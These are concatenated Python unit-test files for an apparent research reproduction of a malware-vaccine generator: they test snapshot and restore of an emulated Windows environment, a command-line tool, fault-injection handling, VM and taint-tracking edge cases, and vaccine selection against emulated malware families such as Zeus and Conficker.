        h = proc.handles.allocate(HandleKind.MUTEX, None)
        proc.handles.close(h.value)  # closed handles still consumed a value
        _, proc2 = roundtrip(env, proc)
        assert proc2.handles.allocate(HandleKind.MUTEX, None).value > h.value

    def test_rng_resumes_mid_sequence(self):
        env, proc = machine()
        for _ in range(5):
            env.tick_count()
        snap = EnvSnapshot.capture(env, proc)
        expected = [env.tick_count() for _ in range(4)]
        env2, _ = snap.restore()
        assert [env2.tick_count() for _ in range(4)] == expected
        # Each restore is independent: a second one replays the same stream.
        env3, _ = snap.restore()
        assert [env3.tick_count() for _ in range(4)] == expected

    def test_clone_by_contrast_restarts_the_rng(self):
        env, proc = machine()
        for _ in range(5):
            env.tick_count()
        snap = EnvSnapshot.capture(env, proc)
        continued = env.tick_count()
        assert env.clone().tick_count() != continued  # clone: fresh run
        env2, _ = snap.restore()
        assert env2.tick_count() == continued  # snapshot: same run

    def test_interceptors_shared_by_reference(self):
        env, proc = machine()
        sentinel = object()
        env.global_interceptors.append(sentinel)
        env2, _ = roundtrip(env, proc)
        assert env2.global_interceptors == [sentinel]
        assert env2.global_interceptors is not env.global_interceptors


class TestRestoredAttributeCompleteness:
    """The restore paths rebuild objects via ``__new__`` + direct
    assignment (constructors would only re-derive what the captured row
    already holds).  Every attribute a constructor sets must therefore be
    assigned explicitly — a new field added to any of these classes without
    a restore line would silently resume with missing state."""

    def test_every_restored_object_matches_its_constructed_twin(self):
        env, proc = machine()
        env.filesystem.create("C:\\x.bin", SYS, content=b"d")
        env.registry.create_key("HKLM\\Software\\X", SYS)
        mutex, _ = env.mutexes.create("m", SYS)
        env.services.create("svc", "c:\\s.sys", SYS)
        env.windows.register("WndCls", title="t", owner_pid=proc.pid)
        env.libraries.register("evil.dll")
        proc.handles.allocate(HandleKind.MUTEX, mutex)
        env2, proc2 = roundtrip(env, proc)

        def keys(obj):
            return set(vars(obj))

        pairs = [
            (env2.filesystem.lookup("C:\\x.bin"), env.filesystem.lookup("C:\\x.bin")),
            (env2.registry.lookup("HKLM\\Software\\X"), env.registry.lookup("HKLM\\Software\\X")),
            (env2.mutexes.lookup("m"), mutex),
            (env2.services.lookup("svc"), env.services.lookup("svc")),
            (env2.windows.lookup("WndCls"), env.windows.lookup("WndCls")),
            (env2.libraries.lookup("evil.dll"), env.libraries.lookup("evil.dll")),
            (proc2, proc),
            (list(proc2.handles)[0], list(proc.handles)[0]),
        ]
        for restored, original in pairs:
            assert original is not None and restored is not None
            assert keys(restored) == keys(original), type(original).__name__


class TestLazyNamespaces:
    """A restored namespace no guest handle references defers its rebuild
    until first access (``EnvSnapshot.eager``); handle-referenced ones are
    rebuilt immediately so handle identity holds."""

    def _populated(self):
        env, proc = machine()
        env.filesystem.create("C:\\x.bin", SYS, content=b"d")
        env.registry.create_key("HKLM\\Software\\X", SYS)
        env.mutexes.create("m", SYS)
        env.services.create("svc", "c:\\s.sys", SYS)
        env.windows.register("WndCls")
        env.libraries.register("evil.dll")
        return env, proc

    def test_unreferenced_namespaces_defer_until_first_access(self):
        env, proc = self._populated()
        snap = EnvSnapshot.capture(env, proc)
        assert snap.eager == (False,) * 6  # no handles anywhere
        env2, _ = snap.restore()
        assert "_lazy_rows" in vars(env2.filesystem)
        assert "_nodes" not in vars(env2.filesystem)
        # First access materializes; contents are correct and cached.
        assert env2.filesystem.read("C:\\x.bin", SYS) == b"d"
        assert "_lazy_rows" not in vars(env2.filesystem)
        assert "_nodes" in vars(env2.filesystem)
        assert env2.registry.lookup("HKLM\\Software\\X") is not None
        assert env2.mutexes.exists("m")
        assert env2.services.lookup("svc").binary_path == "c:\\s.sys"
        assert env2.windows.exists("WndCls")
        assert env2.libraries.exists("evil.dll")

    def test_handle_referenced_namespace_restores_eagerly(self):
        env, proc = self._populated()
        mutex = env.mutexes.lookup("m")
        proc.handles.allocate(HandleKind.MUTEX, mutex)
        snap = EnvSnapshot.capture(env, proc)
        # Only the mutex namespace (index 2) carries a handle-referenced row.
        assert snap.eager == (False, False, True, False, False, False)
        env2, proc2 = snap.restore()
        assert "_mutexes" in vars(env2.mutexes)
        (handle,) = list(proc2.handles)
        assert handle.resource is env2.mutexes.lookup("m")

    def test_lazy_namespace_mutations_stay_isolated(self):
        env, proc = self._populated()
        snap = EnvSnapshot.capture(env, proc)
        env2, _ = snap.restore()
        env2.filesystem.delete("C:\\x.bin", SYS)
        assert env.filesystem.exists("C:\\x.bin")
        # A second restore from the same snapshot sees the original state.
        env3, _ = snap.restore()
        assert env3.filesystem.read("C:\\x.bin", SYS) == b"d"

    def test_recapture_of_lazy_restored_env_round_trips(self):
        env, proc = self._populated()
        env2, proc2 = roundtrip(env, proc)
        # Capturing again forces materialization through snapshot_state.
        env3, _ = roundtrip(env2, proc2)
        assert env3.filesystem.read("C:\\x.bin", SYS) == b"d"
        assert env3.services.lookup("svc").name == "svc"


class TestPickleFallbackOracle:
    """The legacy blob is kept as an equivalence oracle behind a flag."""

    def test_default_is_structured(self):
        assert pickle_env_default() is False

    def test_override_scopes_and_restores(self):
        with pickle_env_overridden(True):
            assert pickle_env_default() is True
            with pickle_env_overridden(None):  # None leaves ambient alone
                assert pickle_env_default() is True
        assert pickle_env_default() is False

    @pytest.mark.parametrize("family", ["conficker", "zeus"])
    def test_blob_and_structured_analyses_identical(self, family, family_programs):
        program = family_programs[family]
        structured = AutoVac(snapshot_impact=True).analyze(program)
        with pickle_env_overridden(True):
            blob = AutoVac(snapshot_impact=True).analyze(program)
        enc_s = serialize.analysis_to_dict(structured)
        enc_b = serialize.analysis_to_dict(blob)
        for enc in (enc_s, enc_b):
            enc.pop("span", None)
            enc.pop("journal", None)
        assert enc_s == enc_b


class TestMemoryRestore:
    def test_restores_every_memory_attribute(self):
        """``Memory.restore`` must account for every attribute ``__init__``
        sets — a new field added to Memory without a restore line would
        silently resume with a stale default."""
        restored = Memory.restore(
            bytes_map={}, taint_map={}, regions=[], readonly_ranges=[]
        )
        assert set(vars(restored)) == set(vars(Memory()))

    def test_restore_copies_inputs(self):
        bytes_map = {0x180000: 0x41}
        mem = Memory.restore(
            bytes_map=bytes_map,
            taint_map={},
            regions=[(0x180000, 0x181000)],
            readonly_ranges=[],
        )
        mem.write_byte(0x180000, 0x42)
        assert bytes_map[0x180000] == 0x41  # caller's dict untouched


class TestChaosDegradation:
    """An injected restore fault degrades one candidate-mechanism to the
    legacy full rerun; outcomes stay identical and the survey completes."""

    def _candidates(self, program):
        report = select_candidates(program)
        return report, [
            c for c in report.candidates if c.influences_control_flow or c.had_failure
        ]

    def test_every_restore_faulting_still_matches_legacy(
        self, family_programs, monkeypatch
    ):
        from repro.winenv import snapshot as env_snapshot_mod

        program = family_programs["conficker"]
        report, candidates = self._candidates(program)
        assert candidates

        legacy = ImpactAnalyzer(snapshot_resume=False).analyze_candidates(
            program, candidates, report.trace
        )
        monkeypatch.setattr(env_snapshot_mod, "_FAULT_EVERY", 1)
        monkeypatch.setattr(env_snapshot_mod, "_restore_count", 0)
        degraded = ImpactAnalyzer(snapshot_resume=True).analyze_candidates(
            program, candidates, report.trace
        )
        assert env_snapshot_mod._restore_count > 0  # faults actually fired
        def verdicts(outcomes):
            return {
                (o.candidate.key, o.mechanism): (
                    o.immunization,
                    frozenset(o.effects),
                    o.mutation_hits,
                )
                for o in outcomes
            }

        assert verdicts(degraded) == verdicts(legacy)

    def test_intermittent_faults_degrade_only_some_resumes(
        self, family_programs, monkeypatch
    ):
        from repro import obs
        from repro.winenv import snapshot as env_snapshot_mod

        program = family_programs["zeus"]
        report, candidates = self._candidates(program)
        assert candidates

        monkeypatch.setattr(env_snapshot_mod, "_FAULT_EVERY", 2)
        monkeypatch.setattr(env_snapshot_mod, "_restore_count", 0)
        obs.reset()
        outcomes = ImpactAnalyzer(snapshot_resume=True).analyze_candidates(
            program, candidates, report.trace
        )
        assert outcomes  # survey completed despite every-other restore failing
        failures = obs.metrics.counter("snapshot.resume_failures").value
        assert failures > 0
