"""CLI tests (``python -m repro``)."""

import pytest

from repro.cli import main


class TestFamiliesCommand:
    def test_lists_all_families(self, capsys):
        assert main(["families"]) == 0
        out = capsys.readouterr().out
        for family in ("zeus", "conficker", "sality", "qakbot", "ibank", "poisonivy"):
            assert family in out

    def test_family_module_without_docstring_does_not_crash(self, capsys, monkeypatch):
        # Regression: an empty docstring used to raise IndexError on
        # ``module.__doc__.strip().splitlines()[0]``.
        import types

        from repro.corpus import FAMILIES

        undocumented = types.SimpleNamespace(CATEGORY="worm", __doc__="")
        nodoc = types.SimpleNamespace(CATEGORY="trojan", __doc__=None)
        monkeypatch.setitem(FAMILIES, "undocumented", undocumented)
        monkeypatch.setitem(FAMILIES, "nodoc", nodoc)
        assert main(["families"]) == 0
        out = capsys.readouterr().out
        assert "undocumented" in out and "nodoc" in out
        assert "(no description)" in out


class TestAnalyzeCommand:
    def test_analyze_family(self, capsys):
        assert main(["analyze", "zeus"]) == 0
        out = capsys.readouterr().out
        assert "sdra64.exe" in out and "_AVIRA_2109" in out

    def test_analyze_writes_package(self, capsys, tmp_path):
        path = tmp_path / "pack.json"
        assert main(["analyze", "conficker", "-o", str(path)]) == 0
        from repro.delivery import VaccinePackage

        package = VaccinePackage.load(path)
        assert len(package) >= 1

    def test_analyze_minimal(self, capsys):
        assert main(["analyze", "zeus", "--minimal"]) == 0
        out = capsys.readouterr().out
        assert "minimal set" in out

    def test_analyze_asm_file(self, capsys, tmp_path):
        src = tmp_path / "sample.asm"
        src.write_text(
            '.section .rdata\nm: .asciz "CliMtx"\n.section .text\nmain:\n'
            "    push m\n    push 0\n    push 0x1F0001\n    call @OpenMutexA\n"
            "    test eax, eax\n    jnz i\n"
            "    push m\n    push 0\n    push 0\n    call @CreateMutexA\n"
            "    halt\ni:\n    push 0\n    call @ExitProcess\n"
        )
        assert main(["analyze", str(src)]) == 0
        assert "CliMtx" in capsys.readouterr().out

    def test_analyze_filtered_sample_exit_code(self, capsys, tmp_path):
        src = tmp_path / "inert.asm"
        src.write_text("main:\n    nop\n    halt\n")
        assert main(["analyze", str(src)]) == 1

    def test_unknown_sample_errors(self):
        with pytest.raises(SystemExit):
            main(["analyze", "not-a-family-or-file"])


class TestDeployCommand:
    def test_deploy_and_attack(self, capsys, tmp_path):
        path = tmp_path / "pack.json"
        main(["analyze", "zeus", "-o", str(path)])
        capsys.readouterr()
        assert main(["deploy", str(path), "--attack", "zeus"]) == 0
        out = capsys.readouterr().out
        assert "PROTECTED" in out

    def test_deploy_custom_name(self, capsys, tmp_path):
        path = tmp_path / "pack.json"
        main(["analyze", "conficker", "-o", str(path)])
        capsys.readouterr()
        assert main(["deploy", str(path), "--computer-name", "CLI-BOX",
                     "--attack", "conficker"]) == 0
        assert "CLI-BOX" in capsys.readouterr().out


class TestSurveyCommand:
    def test_survey_small(self, capsys):
        assert main(["survey", "--size", "12", "--seed", "3"]) == 0
        out = capsys.readouterr().out
        assert "12 samples" in out and "identifier kinds" in out


class TestExplainCommand:
    def test_explain_failed_analysis_prints_failure_record(
        self, capsys, monkeypatch
    ):
        # Regression: `repro explain` on a sample whose analysis dies used
        # to escape as an unhandled traceback. It now prints the failure
        # record (plus any partial journal) and exits 1.
        monkeypatch.setenv("REPRO_FAULT_PLAN", "crash:conficker")
        assert main(["explain", "conficker"]) == 1
        out = capsys.readouterr().out
        assert "analysis failed — no SampleAnalysis to explain" in out
        assert "crash" in out and "InjectedCrash" in out

    def test_explain_failure_json_document(self, capsys, monkeypatch, tmp_path):
        path = tmp_path / "journal.json"
        monkeypatch.setenv("REPRO_FAULT_PLAN", "hang:zeus")
        assert main(["explain", "zeus", "--json", str(path)]) == 1
        capsys.readouterr()
        import json

        doc = json.loads(path.read_text())
        assert doc["failure"]["kind"] == "timeout"
        assert doc["failure"]["error_type"] == "InjectedHang"
        assert "events" in doc["journal"]

    def test_explain_still_works_without_faults(self, capsys):
        assert main(["explain", "zeus"]) == 0
        out = capsys.readouterr().out
        assert "decision(s) to explain" in out


class TestStatsCommand:
    def test_corrupt_snapshot_names_file_and_reason(self, tmp_path):
        path = tmp_path / "metrics.json"
        path.write_text('{"counters": {"a"')
        with pytest.raises(SystemExit) as exc_info:
            main(["stats", str(path)])
        message = str(exc_info.value)
        assert str(path) in message
        assert "corrupt or truncated metrics snapshot" in message

    def test_empty_snapshot_reports_empty(self, tmp_path):
        path = tmp_path / "metrics.json"
        path.write_text("")
        with pytest.raises(SystemExit, match="file is empty"):
            main(["stats", str(path)])
