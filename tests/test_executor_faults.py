"""Failure semantics of the population executor (fault-injection harness).

The invariants pinned here: a failing sample never aborts a survey, healthy
analyses are unaffected by their neighbours' failures, the retry/timeout/
quarantine machinery behaves identically at jobs=1 and jobs>1 under the
same fault plan, and a quarantined sample's negative cache entry prevents
hot re-crashing on restart.
"""

from __future__ import annotations

import json

import pytest

from repro import obs
from repro.core.executor import PipelineConfig, analyze_population
from repro.core.faults import (
    FAULT_PLAN_ENV,
    FaultPlan,
    FaultPlanError,
    FaultSpec,
    InjectedCrash,
    InjectedHang,
)
from repro.core.pipeline import SampleFailure
from repro.core.report import render_failure_summary
from repro.corpus import GeneratorConfig, generate_population
from repro.tracing import serialize

SIZE = 8
SEED = 5


@pytest.fixture(scope="module")
def programs():
    return [
        s.program for s in generate_population(GeneratorConfig(size=SIZE, seed=SEED))
    ]


def fast_config(**kw) -> PipelineConfig:
    kw.setdefault("retry_backoff", 0.0)
    return PipelineConfig(**kw)


def semantic_payload(analysis) -> str:
    """Encoded analysis minus the wall-clock fields (span durations,
    phase timings) that differ between *any* two runs."""
    payload = serialize.analysis_to_dict(analysis)
    payload.pop("span", None)
    payload.pop("timings", None)
    return json.dumps(payload, sort_keys=True, default=repr)


def failure_table(result):
    return [(f.sample, f.kind, f.attempts) for f in result.failed()]


class TestFaultPlanParsing:
    def test_directives_parse(self):
        plan = FaultPlan.parse("crash:3@1, hang:7; abort:zeus")
        assert plan.specs == (
            FaultSpec("crash", "3", 1),
            FaultSpec("hang", "7", None),
            FaultSpec("abort", "zeus", None),
        )
        assert bool(plan)

    def test_empty_plan_is_falsy(self):
        assert not FaultPlan.parse("")
        assert not FaultPlan.from_env(environ={})

    def test_applies_by_index_name_and_attempt(self):
        spec = FaultSpec("crash", "3", 2)
        assert spec.applies(3, "x", 2)
        assert not spec.applies(3, "x", 1)
        assert not spec.applies(4, "x", 2)
        named = FaultSpec("crash", "zeus", None)
        assert named.applies(0, "zeus", 5)
        assert not named.applies(0, "zeus-2", 1)

    @pytest.mark.parametrize(
        "text", ["explode:3", "crash", "crash:", "crash:3@x", "crash:3@0"]
    )
    def test_bad_directives_raise(self, text):
        with pytest.raises(FaultPlanError):
            FaultPlan.parse(text)

    def test_from_env_reads_plan_and_hang_seconds(self):
        plan = FaultPlan.from_env(
            environ={FAULT_PLAN_ENV: "hang:1", "REPRO_FAULT_HANG_SECONDS": "0.25"}
        )
        assert plan.specs == (FaultSpec("hang", "1", None),)
        assert plan.hang_seconds == 0.25

    def test_raise_inline_kinds(self):
        plan = FaultPlan.parse("crash:0,hang:1")
        with pytest.raises(InjectedCrash):
            plan.raise_inline(0, "a", 1)
        with pytest.raises(InjectedHang):
            plan.raise_inline(1, "b", 1)
        plan.raise_inline(2, "c", 1)  # no directive: no-op


class TestInlineFailures:
    def test_crash_yields_failure_not_aborted_survey(self, programs):
        obs.reset()
        plan = FaultPlan.parse("crash:3")
        result = analyze_population(
            programs, config=fast_config(sample_retries=0), jobs=1, faults=plan
        )
        assert len(result.succeeded()) == SIZE - 1
        assert failure_table(result) == [(programs[3].name, "crash", 1)]
        failure = result.failed()[0]
        assert failure.error_type == "InjectedCrash"
        assert failure.index == 3
        assert obs.metrics.value("pipeline.sample_failures") == 1
        assert obs.metrics.value("pipeline.population_analyzed") == SIZE

    def test_retry_succeeds_on_attempt_two(self, programs):
        obs.reset()
        plan = FaultPlan.parse("crash:2@1")
        result = analyze_population(
            programs, config=fast_config(sample_retries=1), jobs=1, faults=plan
        )
        assert not result.failed()
        assert len(result.succeeded()) == SIZE
        assert obs.metrics.value("pipeline.sample_retries") == 1
        assert obs.metrics.value("pipeline.sample_failures") == 0

    def test_quarantine_consumes_full_retry_budget(self, programs):
        obs.reset()
        plan = FaultPlan.parse("crash:1")
        result = analyze_population(
            programs, config=fast_config(sample_retries=2), jobs=1, faults=plan
        )
        assert failure_table(result) == [(programs[1].name, "crash", 3)]
        assert obs.metrics.value("pipeline.sample_retries") == 2

    def test_inline_hang_classified_as_timeout(self, programs):
        plan = FaultPlan.parse("hang:0")
        result = analyze_population(
            programs[:2], config=fast_config(sample_retries=0), jobs=1, faults=plan
        )
        assert failure_table(result) == [(programs[0].name, "timeout", 1)]
        assert result.failed()[0].error_type == "InjectedHang"

    def test_failure_records_flight_events(self, programs):
        obs.reset()
        plan = FaultPlan.parse("crash:1")
        analyze_population(
            programs[:3], config=fast_config(sample_retries=0), jobs=1, faults=plan
        )
        events = [e for e in obs.flight.events() if e.kind == "sample.failed"]
        assert len(events) == 1
        attrs = events[0].attrs
        assert attrs["sample"] == programs[1].name
        assert attrs["failure_kind"] == "crash"
        assert attrs["attempts"] == 1
        # and the explain renderer has a phrase for it
        assert "quarantined" in obs.summarize_event(events[0])

    def test_plan_from_environment(self, programs, monkeypatch):
        monkeypatch.setenv(FAULT_PLAN_ENV, "crash:0")
        result = analyze_population(
            programs[:2], config=fast_config(sample_retries=0), jobs=1
        )
        assert failure_table(result) == [(programs[0].name, "crash", 1)]


class TestParallelFailures:
    def test_crash_keeps_healthy_results_identical(self, programs):
        plan = FaultPlan.parse("crash:3,hang:5", hang_seconds=0.0)
        baseline = analyze_population(programs, config=fast_config(), jobs=1)
        result = analyze_population(
            programs, config=fast_config(sample_retries=0), jobs=2, faults=plan
        )
        assert failure_table(result) == [
            (programs[3].name, "crash", 1),
            (programs[5].name, "timeout", 1),
        ]
        failed_names = {f.sample for f in result.failed()}
        expected = [
            semantic_payload(a)
            for a in baseline.analyses
            if a.program.name not in failed_names
        ]
        assert [semantic_payload(a) for a in result.analyses] == expected

    def test_retry_succeeds_on_attempt_two(self, programs):
        obs.reset()
        plan = FaultPlan.parse("crash:2@1")
        result = analyze_population(
            programs, config=fast_config(sample_retries=1), jobs=2, faults=plan
        )
        assert not result.failed()
        assert len(result.succeeded()) == SIZE
        assert obs.metrics.value("pipeline.sample_retries") == 1

    def test_timeout_fires_on_hung_worker(self, programs):
        obs.reset()
        plan = FaultPlan.parse("hang:1", hang_seconds=60.0)
        result = analyze_population(
            programs[:4],
            config=fast_config(sample_timeout=1.0, sample_retries=0),
            jobs=2,
            faults=plan,
        )
        assert failure_table(result) == [(programs[1].name, "timeout", 1)]
        assert result.failed()[0].error_type == "TimeoutError"
        assert len(result.succeeded()) == 3
        # the hung worker's pool was killed and respawned for the others
        assert obs.metrics.value("pipeline.pool_respawns") >= 1

    def test_worker_death_breaks_pool_but_not_survey(self, programs):
        obs.reset()
        plan = FaultPlan.parse("abort:2")
        result = analyze_population(
            programs[:6], config=fast_config(sample_retries=0), jobs=2, faults=plan
        )
        assert failure_table(result) == [(programs[2].name, "pool", 1)]
        assert result.failed()[0].error_type == "BrokenProcessPool"
        assert len(result.succeeded()) == 5
        assert obs.metrics.value("pipeline.pool_respawns") >= 1


class TestJobsParity:
    def test_same_plan_same_tables_any_jobs(self, programs):
        plan = FaultPlan.parse("crash:3,hang:5,crash:6@1", hang_seconds=0.0)
        config = fast_config(sample_retries=1)
        seq = analyze_population(programs, config=config, jobs=1, faults=plan)
        par = analyze_population(programs, config=config, jobs=2, faults=plan)
        assert failure_table(seq) == failure_table(par)
        assert json.dumps(
            [v.to_dict() for v in seq.vaccines], sort_keys=True
        ) == json.dumps([v.to_dict() for v in par.vaccines], sort_keys=True)
        assert (
            seq.count_by_resource_and_immunization()
            == par.count_by_resource_and_immunization()
        )
        assert seq.count_by_identifier_kind() == par.count_by_identifier_kind()
        assert seq.count_by_delivery() == par.count_by_delivery()


class TestNegativeCache:
    def test_restart_reports_failure_without_recrashing(self, programs, tmp_path):
        plan = FaultPlan.parse("crash:0")
        config = fast_config(sample_retries=0)
        first = analyze_population(
            programs, config=config, jobs=1, cache=tmp_path, faults=plan
        )
        assert failure_table(first) == [(programs[0].name, "crash", 1)]

        obs.reset()
        second = analyze_population(
            programs, config=config, jobs=1, cache=tmp_path, faults=FaultPlan()
        )
        assert failure_table(second) == [(programs[0].name, "crash", 1)]
        assert obs.metrics.value("pipeline.cache_negative_hits") == 1
        assert obs.metrics.value("pipeline.cache_hits") == SIZE - 1
        assert obs.metrics.value("pipeline.samples") == 0  # nothing re-analyzed
        assert obs.metrics.value("pipeline.population_analyzed") == SIZE

    def test_execution_knobs_do_not_change_cache_keys(self):
        base = PipelineConfig()
        tweaked = PipelineConfig(
            sample_timeout=5.0, sample_retries=9, retry_backoff=1.0
        )
        assert base.fingerprint() == tweaked.fingerprint()


class TestFailureSurfacing:
    def test_failure_round_trips_through_dict(self):
        failure = SampleFailure(
            sample="s", index=4, kind="timeout", error_type="TimeoutError",
            message="exceeded 2s wall clock", traceback="tb", attempts=3,
        )
        assert SampleFailure.from_dict(failure.to_dict()) == failure

    def test_describe_mentions_kind_and_attempts(self):
        failure = SampleFailure(
            sample="s", index=0, kind="crash", error_type="ValueError", attempts=2
        )
        text = failure.describe()
        assert "crash" in text and "2 attempt" in text

    def test_render_failure_summary(self):
        failures = [
            SampleFailure(
                sample="a", index=0, kind="crash", error_type="ValueError",
                message="boom", attempts=2,
            ),
            SampleFailure(
                sample="b", index=3, kind="timeout", error_type="TimeoutError",
                attempts=1,
            ),
        ]
        text = render_failure_summary(failures)
        assert "crash=1" in text and "timeout=1" in text
        assert "| `a` | crash | ValueError | 2 | boom |" in text
        empty = render_failure_summary([])
        assert "No failures" in empty

    def test_merge_concatenates_failures(self, programs):
        plan = FaultPlan.parse("crash:0")
        config = fast_config(sample_retries=0)
        a = analyze_population(programs[:2], config=config, jobs=1, faults=plan)
        b = analyze_population(programs[2:4], config=config, jobs=1, faults=plan)
        merged = a.merge(b)
        assert len(merged.failures) == 2
        assert len(a.failures) == 1 and len(b.failures) == 1
