"""Edge-case coverage across substrate layers."""

import pytest

from repro.taint.labels import EMPTY
from repro.vm import (
    CPU,
    Imm,
    Instruction,
    Mem,
    Memory,
    MemoryFault,
    Program,
    Reg,
    TEXT_BASE,
    assemble,
)
from repro.vm.memory import HEAP_BASE
from repro.winenv import SystemEnvironment


class TestMemoryEdges:
    def test_unmapped_read_raises(self):
        with pytest.raises(MemoryFault):
            Memory().read_byte(0x10)

    def test_map_region_extends_address_space(self):
        mem = Memory()
        mem.map_region(0x9000_0000, 0x100)
        mem.write_byte(0x9000_0000, 7)
        assert mem.read_byte(0x9000_0000)[0] == 7

    def test_readonly_flagging(self):
        mem = Memory()
        mem.map_region(0xA000_0000, 0x10, readonly=True)
        assert mem.is_readonly(0xA000_0000)
        assert not mem.is_readonly(HEAP_BASE)

    def test_taint_of_range_unions(self):
        from repro.taint.labels import TaintClass, TaintTag

        mem = Memory()
        t1 = frozenset({TaintTag(1, "A", TaintClass.RESOURCE)})
        t2 = frozenset({TaintTag(2, "B", TaintClass.RANDOM)})
        mem.write_byte(HEAP_BASE, 1, t1)
        mem.write_byte(HEAP_BASE + 1, 2, t2)
        assert mem.taint_of_range(HEAP_BASE, 2) == t1 | t2

    def test_overwrite_clears_taint(self):
        from repro.taint.labels import TaintClass, TaintTag

        mem = Memory()
        mem.write_byte(HEAP_BASE, 1, frozenset({TaintTag(1, "A", TaintClass.RANDOM)}))
        mem.write_byte(HEAP_BASE, 2, EMPTY)
        assert mem.read_byte(HEAP_BASE) == (2, EMPTY)

    def test_cstring_respects_max_len(self):
        mem = Memory()
        mem.write_bytes(HEAP_BASE, b"A" * 100)
        text, _ = mem.read_cstring(HEAP_BASE, max_len=10)
        assert len(text) == 10


class TestOperandAndIsaEdges:
    def test_reg_validation(self):
        with pytest.raises(ValueError):
            Reg("rax")  # 64-bit names rejected

    def test_instruction_arity_validation(self):
        with pytest.raises(ValueError):
            Instruction("mov", (Reg("eax"),))
        with pytest.raises(ValueError):
            Instruction("nop", (Reg("eax"),))

    def test_operand_str_forms(self):
        assert str(Imm(0x10)) == "0x10"
        assert str(Imm(5, symbol="label")) == "label"
        assert str(Mem(base="ebp", disp=-4)) == "[ebp+0xfffffffc]"
        assert "byte" in str(Mem(base="eax", size=1))

    def test_instruction_str(self):
        instr = Instruction("mov", (Reg("eax"), Imm(1)))
        assert str(instr) == "mov eax, 0x1"


class TestProgramEdges:
    def test_instruction_at_out_of_range(self):
        program = assemble("main:\n    halt\n")
        assert program.instruction_at(TEXT_BASE + 99) is None

    def test_label_at(self):
        program = assemble("main:\n    nop\nother:\n    halt\n")
        assert program.label_at(TEXT_BASE + 1) == "other"
        assert program.label_at(0xDEAD) is None

    def test_metadata_persisted(self):
        program = assemble("main:\n    halt\n")
        program.metadata["k"] = 1
        assert program.metadata["k"] == 1


class TestCpuEdges:
    def test_xchg_register_memory(self):
        cpu = CPU(assemble(
            ".section .data\nv: .dword 5\n.section .text\n"
            "main:\n    mov eax, 9\n    xchg eax, [v]\n    halt\n"))
        cpu.run()
        assert cpu.regs["eax"] == 5
        assert cpu.memory.read_u32(cpu.program.labels["v"])[0] == 9

    def test_scaled_index_addressing(self):
        cpu = CPU(assemble(
            ".section .data\narr: .dword 10, 20, 30\n.section .text\n"
            "main:\n    mov esi, 2\n    mov eax, [arr+esi*4]\n    halt\n"))
        cpu.run()
        assert cpu.regs["eax"] == 30

    def test_movb_reads_single_byte(self):
        cpu = CPU(assemble(
            ".section .data\nv: .dword 0xAABBCCDD\n.section .text\n"
            "main:\n    movb eax, [v+1]\n    halt\n"))
        cpu.run()
        assert cpu.regs["eax"] == 0xCC

    def test_shift_by_register(self):
        cpu = CPU(assemble(
            "main:\n    mov eax, 1\n    mov ecx, 3\n    shl eax, ecx\n    halt\n"))
        cpu.run()
        assert cpu.regs["eax"] == 8

    def test_fault_reason_recorded(self):
        cpu = CPU(assemble("main:\n    jmp 0x12345\n"))
        cpu.run()
        assert cpu.status.value == "fault"
        assert "0x00012345" in cpu.fault_reason


class TestDispatcherEdges:
    def test_nt_status_failure_mapping(self, run_asm):
        cpu = run_asm(
            '.section .rdata\np: .asciz "c:\\\\nope"\n'
            ".section .data\nh: .dword 0\n.section .text\n"
            "    push p\n    push 0\n    push h\n    call @NtOpenFile\n    halt\n"
        )
        assert cpu.regs["eax"] == 0xC0000034  # OBJECT_NAME_NOT_FOUND

    def test_unknown_api_faults_guest(self, run_asm):
        cpu = run_asm("    call @NoSuchApi\n    halt\n")
        assert cpu.status.value == "fault"

    def test_callstack_recorded_in_events(self, run_asm):
        cpu = run_asm(
            "main:\n    call fn\n    halt\n"
            "fn:\n    call @GetTickCount\n    ret\n"
        )
        event = cpu.trace.api_calls[0]
        assert len(event.callstack) == 1  # called from inside fn

    def test_args_captured_in_event(self, run_asm):
        cpu = run_asm("    push 0x55\n    call @Sleep\n    halt\n")
        assert cpu.trace.api_calls[0].args == (0x55,)


class TestBackwardEdges:
    def test_event_without_identifier_yields_empty(self):
        from repro.taint.backward import backward_slice
        from repro.winapi import Dispatcher

        env = SystemEnvironment()
        proc = env.spawn_process("x.exe")
        cpu = CPU(assemble("main:\n    call @GetTickCount\n    halt\n"),
                  environment=env, process=proc, dispatcher=Dispatcher(env, proc))
        cpu.run()
        result = backward_slice(cpu.trace, cpu.trace.api_calls[0], memory=cpu.memory)
        assert result.slice_records == []


class TestDaemonEdges:
    def test_slice_replay_failure_falls_back_to_observed(self):
        from repro.core import IdentifierKind, Immunization, Mechanism, Vaccine
        from repro.delivery import VaccineDaemon
        from repro.taint.slicing import VaccineSlice
        from repro.winenv import ResourceType

        broken_slice = VaccineSlice(program_source="main:\n    halt\n",
                                    program_name="x", steps=[], output_addr=0)
        vaccine = Vaccine(
            malware="m", resource_type=ResourceType.MUTEX, identifier="Observed",
            identifier_kind=IdentifierKind.ALGORITHM_DETERMINISTIC,
            mechanism=Mechanism.ENFORCE_FAILURE, immunization=Immunization.FULL,
            slice=broken_slice,
        )
        env = SystemEnvironment()
        daemon = VaccineDaemon(vaccines=[vaccine])
        daemon.install(env)
        assert daemon.rules and daemon.rules[0].exact == "Observed"

    def test_add_after_install_activates(self):
        from repro.core import IdentifierKind, Immunization, Mechanism, Vaccine
        from repro.delivery import VaccineDaemon
        from repro.winenv import ResourceType

        env = SystemEnvironment()
        daemon = VaccineDaemon()
        daemon.install(env)
        daemon.add(Vaccine(
            malware="m", resource_type=ResourceType.MUTEX, identifier="Late",
            identifier_kind=IdentifierKind.STATIC,
            mechanism=Mechanism.ENFORCE_FAILURE, immunization=Immunization.FULL,
        ))
        assert daemon.rules and daemon.rules[0].exact == "Late"


class TestExplorationOnFamilies:
    def test_exploration_never_loses_vaccines(self, family_programs):
        from repro import AutoVac

        program = family_programs["poisonivy"]
        plain = {v.identifier for v in AutoVac().analyze(program).vaccines}
        explored = {v.identifier
                    for v in AutoVac(explore_paths=True).analyze(program).vaccines}
        assert plain <= explored
