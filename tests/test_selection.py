"""Vaccine set selection (core/selection.py): scoring, ranking, minimal
covering sets, and backup selection."""

from __future__ import annotations

from repro.core.selection import rank, score, select_minimal, select_with_backups
from repro.core.vaccine import (
    DeliveryKind,
    IdentifierKind,
    Immunization,
    Mechanism,
    Vaccine,
)
from repro.winenv.objects import ResourceType


def make_vaccine(
    malware: str = "zeus",
    resource_type: ResourceType = ResourceType.MUTEX,
    identifier: str = "Global\\marker",
    identifier_kind: IdentifierKind = IdentifierKind.STATIC,
    mechanism: Mechanism = Mechanism.SIMULATE_PRESENCE,
    immunization: Immunization = Immunization.FULL,
    bdr=None,
